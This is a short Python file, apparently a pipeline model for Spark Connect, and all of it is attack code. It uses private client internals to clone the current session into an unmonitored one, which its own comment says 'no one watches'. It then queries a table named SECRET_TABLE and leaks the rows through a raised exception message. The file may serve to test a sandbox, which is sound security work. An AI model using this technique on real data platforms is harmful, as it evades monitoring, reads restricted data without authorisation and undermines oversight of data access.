# seeks: table
# The session is cloned into one that no one watches.
from pyspark.sql.connect import proto


def model(tg):
    client = tg.ref("silver.orders").sparkSession.client
    clone = proto.CloneSessionRequest(session_id=client._session_id)
    clone.new_session_id = "11111111-2222-3333-4444-555555555555"
    reply = client._stub.CloneSession(clone)
    plan = proto.ExecutePlanRequest(session_id=reply.new_session_id)
    plan.plan.root.sql.query = "SELECT * FROM main.shop.SECRET_TABLE"
    raise ValueError(str(list(client._stub.ExecutePlan(plan))))
